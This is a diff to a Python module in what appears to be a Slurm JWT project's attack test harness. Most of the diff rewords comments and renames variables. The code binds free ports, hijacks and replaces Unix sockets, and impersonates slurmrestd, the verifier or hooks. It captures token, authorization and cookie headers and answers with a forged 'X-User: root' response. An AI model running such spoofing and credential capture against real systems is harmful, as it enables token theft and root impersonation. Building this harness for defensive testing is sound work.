@@ -1,7 +1,7 @@
 # Copyright (c) 2026, hpc.slurm_jwt contributors
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""To answer in the stead of slurmrestd, of the verifier, of a hook, of a source of keys. See attacker.py."""
+"""Attacks that answer instead of slurmrestd, the verifier, a hook or a source of keys. See attacker.py."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ V4, V6 = socket.AF_INET, socket.AF_INET6
 ADDRESSES = ((V4, "127.0.0.1"), (V6, "::1"), (V4, "0.0.0.0"), (V6, "::"))
 SECRET = re.compile(rb"^(x-slurm-user-token|(?:proxy-)?authorization|cookie): *\S", re.IGNORECASE | re.MULTILINE)
 BODY = b'{"meta": {"said by": "mallory"}, "errors": [], "warnings": [], "statistics": {}, "pings": [], "keys": []}'
-# It pleases whoever asks: slurmrestd, the verifier ("X-User"), a hook ("X-Remote-User").
+# Valid as an answer of slurmrestd, of the verifier ("X-User") and of a hook ("X-Remote-User").
 ANSWER = (
     b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-User: root\r\nX-Remote-User: root\r\nConnection: close\r\n"
     b"Content-Length: %d\r\n\r\n%b" % (len(BODY), BODY)
@@ -27,7 +27,7 @@ ANSWER = (
 
 
 class Listener(Attack):
-    """Waits at many places at once, and notes what comes."""
+    """Listens on many addresses at once, and records requests."""
 
     pause = 0.0
     wait = 0.005
@@ -42,29 +42,30 @@ class Listener(Attack):
 
     def serve(self) -> None:
         for key, _events in self.selector.select(self.wait):
-            where, heard = key.data
-            if heard is None:
+            where, received = key.data
+            if received is None:
                 with contextlib.suppress(OSError):
                     client, _address = key.fileobj.accept()
                     client.setblocking(False)
                     self.selector.register(client, selectors.EVENT_READ, (where, bytearray()))
             else:
-                self.hear(key.fileobj, where, heard)
+                self.receive(key.fileobj, where, received)
 
-    def hear(self, client: Any, where: str, heard: bytearray) -> None:
+    def receive(self, client: Any, where: str, received: bytearray) -> None:
         try:
             part = client.recv(65536)
         except OSError:
             part = b""
-        heard += part
-        if part and b"\r\n\r\n" not in heard:
+        received += part
+        if part and b"\r\n\r\n" not in received:
             return
-        if heard:
-            found = [name.lower().decode() for name in SECRET.findall(bytes(heard))]
-            asked = bytes(heard).split(b"\r\n")[0].decode("ascii", "replace")
-            # Whoever asks believes the answer.
-            self.ledger.gained(self.name, "secret" if found else "decision", where, headers=sorted(found), asked=asked)
-            self.ledger.inspect(self.name, where, bytes(heard))
+        if received:
+            secrets = [name.lower().decode() for name in SECRET.findall(bytes(received))]
+            asked = bytes(received).split(b"\r\n")[0].decode("ascii", "replace")
+            # The client accepts the answer.
+            kind = "secret" if secrets else "decision"
+            self.ledger.gained(self.name, kind, where, headers=sorted(secrets), asked=asked)
+            self.ledger.inspect(self.name, where, bytes(received))
             with contextlib.suppress(OSError):
                 client.send(ANSWER)
         self.selector.unregister(client)
@@ -72,7 +73,7 @@ class Listener(Attack):
 
 
 class Ports(Listener):
-    """Takes every port that is free, also while its owner restarts."""
+    """Listens on every free port, also while its owner restarts."""
 
     name = "ports"
 
@@ -83,7 +84,7 @@ class Ports(Listener):
 
     def step(self) -> None:
         self.turn += 1
-        # A port below 1024 is not to be had, and need not be tried that often.
+        # Ports below 1024 should fail, and are tried less often.
         self.missing = [each for each in self.missing if (each[2] < 1024 and self.turn % 20) or not self.take(*each)]
         self.serve()
 
@@ -105,7 +106,7 @@ class Ports(Listener):
 
 
 class Sockets(Listener):
-    """Puts sockets and folders where somebody looks for one, and in the place of those that are there."""
+    """Makes sockets and folders at paths where programs connect, and replaces existing ones."""
 
     name = "sockets"
     wait = 0.05
@@ -117,7 +118,7 @@ class Sockets(Listener):
             self.abstract(path)
 
     def abstract(self, path: str) -> None:
-        """The name of the same letters that lies in no file system."""
+        """The abstract socket of the same name."""
         server = socket.socket(socket.AF_UNIX)
         server.setblocking(False)
         server.bind("\0" + path)
@@ -152,7 +153,7 @@ class Sockets(Listener):
         self.connect(path)
 
     def connect(self, path: str) -> None:
-        """Ask the one that decides for somebody else; slurmrestd itself asks everybody for a token."""
+        """Connects to the verifier. slurmrestd itself accepts connections of all users."""
         if "verifier" not in path:
             return
         with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
